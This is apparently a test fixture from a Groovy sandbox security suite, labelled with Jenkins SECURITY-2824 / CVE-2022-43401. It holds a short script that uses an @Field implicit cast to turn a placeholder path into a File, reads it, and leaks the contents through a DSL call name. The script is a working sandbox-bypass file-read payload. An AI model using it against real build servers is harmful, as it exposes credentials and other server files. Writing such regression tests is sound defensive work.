// class: compile-time
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted) (@Field)
// expect: read
@groovy.transform.Field File secretFile = ['@CANARY_READ@']
vmwareSite("leak-${secretFile.text}") { network 'VM Network' }
